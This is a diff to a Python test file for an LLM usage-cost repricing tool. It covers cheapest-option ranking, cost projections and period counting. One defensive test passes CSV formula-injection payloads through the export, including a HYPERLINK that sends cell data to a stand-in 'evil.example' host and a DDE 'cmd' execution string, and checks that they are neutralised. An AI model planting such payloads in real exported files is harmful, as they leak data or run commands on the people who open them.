@@ -3,6 +3,7 @@ tables and sentences, and the sample catalogue (AppTest cannot read download byt
 
 from __future__ import annotations
 
+import datetime as dt
 import io
 import json
 
@@ -11,13 +12,14 @@ import pandas as pd
 import pytest
 
 from model.usage.export import ROW_COLUMNS, cost_column, repriced_csv, summary_json
-from model.usage.forecast import Substitution, project_log
+from model.usage.outlook import Substitution, project_log
 from model.usage.readers import read_usage
 from model.usage.reconcile import reconcile
 from model.usage.reprice import reprice_frame, summary
 from model.usage.samples import list_samples
 from model.usage.tables import (
     cheapest_option,
+    cheapest_sentence,
     compare_views,
     model_mapping,
     options_table,
@@ -103,18 +105,45 @@ def test_page_tables(generic, book: PriceBook) -> None:
     assert unmapped_text({"b": 1, "a": 3}) == "a (3 rows), b (1 row)"
     table = options_table(costing)
     assert table["total_usd"].tolist() == pytest.approx([o.total_usd for o in costing.options])
-    assert table["cheapest"].sum() == 1
+    assert (table["rank"] == 1).sum() == 1
+    assert table.loc[table["rank"] == 1, "id"].item() == cheapest_option(costing)
     latest = reprice_frame(read.frame, book, pricing="latest")
     views = compare_views(costing, latest)
     assert views["latest_usd"].tolist() == pytest.approx([o.total_usd for o in latest.options])
 
 
-def test_cheapest_ignores_options_that_drop_rows(openrouter) -> None:
+def test_cheapest_compares_the_same_rows(openrouter) -> None:
+    """Issue 8: OpenRouter was crowned because the others cannot price the 15 :free rows it
+    served at $0. On the 53 paid rows every option prices, pooled is cheapest."""
     _, costing = openrouter
-    # Pooled and direct cannot sell the open models OpenRouter served: their totals cover
-    # fewer rows, so OpenRouter (every row) is the only fair "cheapest".
-    assert sum(costing.option("pooled").unpriced.values()) > 0
-    assert cheapest_option(costing) == "openrouter"
+    assert cheapest_option(costing) == "pooled"
+    text = cheapest_sentence(costing)
+    names = {o.id: o.option.name for o in costing.options}
+    assert text.startswith(f"Cheapest on the 53 rows every option prices: **{names['pooled']}**")
+    assert f"less than {names['direct']} ($4.39); {names['openrouter']} $4.63." in text
+    assert "15 rows of 6 models not every option sells are outside this comparison: " in text
+    assert f"{names['openrouter']} charges $0.00 for 15 rows" in text
+    table = options_table(costing).set_index("id")
+    assert table.loc["pooled", "rank"] == 1 and table.loc["openrouter", "rank"] == 3
+    assert round(table.loc["pooled", "same_rows_usd"], 2) == 3.51
+
+
+@pytest.mark.parametrize(
+    "name",
+    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)",
+     "-2+3+cmd", "\tlead-tab", "\rlead-cr"],
+)  # fmt: skip
+def test_repriced_csv_neutralizes_formulas_in_every_text_cell(book: PriceBook, name: str) -> None:
+    frame = read_usage(
+        b"timestamp,model,input_tokens,output_tokens\n2026-10-01T00:00:00Z,gpt-4o,10,5\n", "a.csv"
+    ).frame
+    frame["model_raw"] = frame["model"] = frame["provider"] = pd.array([name], dtype="string")
+    out = pd.read_csv(io.BytesIO(repriced_csv(reprice_frame(frame, book))), dtype=str)
+    text_columns = [col for col in out.columns if col in ("model_raw", "model", "provider")]
+    assert text_columns == ["model_raw", "model", "provider"]
+    for col in text_columns:
+        assert out[col].iloc[0] == "'" + name, col
+    assert out["cost_direct_usd"].isna().all()  # unknown model: empty, never $0
 
 
 def test_reconciliation_sentence(openrouter) -> None:
@@ -127,12 +156,17 @@ def test_reconciliation_sentence(openrouter) -> None:
 
 def test_projection_bands_price_every_option(generic, book: PriceBook) -> None:
     _, costing = generic
-    projection = project_log(costing.frame, months=3)
+    projection = project_log(costing.frame, months=3, today=dt.date(2026, 11, 30))
     bands = projection_bands(projection, book, None)
     assert len(bands) == 3 * len(costing.options)
     assert (bands["low"] <= bands["base"]).all() and (bands["base"] <= bands["high"]).all()
     moved = projection_bands(
-        project_log(costing.frame, months=3, substitutions=[Substitution("gpt-5.4", "batch", 1)]),
+        project_log(
+            costing.frame,
+            months=3,
+            substitutions=[Substitution("gpt-5.4", "batch", 1)],
+            today=dt.date(2026, 11, 30),
+        ),
         book,
         None,
     )
@@ -174,3 +208,18 @@ def test_priced_models_and_mapping_on_codes(openrouter) -> None:
     mapping = model_mapping(costing).set_index("model_raw")
     assert mapping.loc["anthropic/claude-4.6-opus-20260205", "model"] == "claude-opus-4-6"
     assert mapping["rows"].sum() == 68
+
+
+def test_period_counts_calendar_days_like_the_projection(book: PriceBook) -> None:
+    """10:00 on the 22nd to 09:00 on the 24th is 3 calendar days (22, 23, 24), although
+    less than 48 hours: the page once said "2 days" next to the projection's 3."""
+    from model.usage.forecast import daily_series
+
+    read = read_usage(
+        b"timestamp,model,input_tokens,output_tokens\n"
+        b"2026-03-22T10:00:00Z,gpt-4o,10,5\n2026-03-24T09:00:00Z,gpt-4o,10,5\n",
+        "p.csv",
+    )
+    facts = dict(understood(read, reprice_frame(read.frame, book)))
+    assert facts["Period"].endswith("(3 calendar days)")
+    assert len(daily_series(read.frame)) == 3
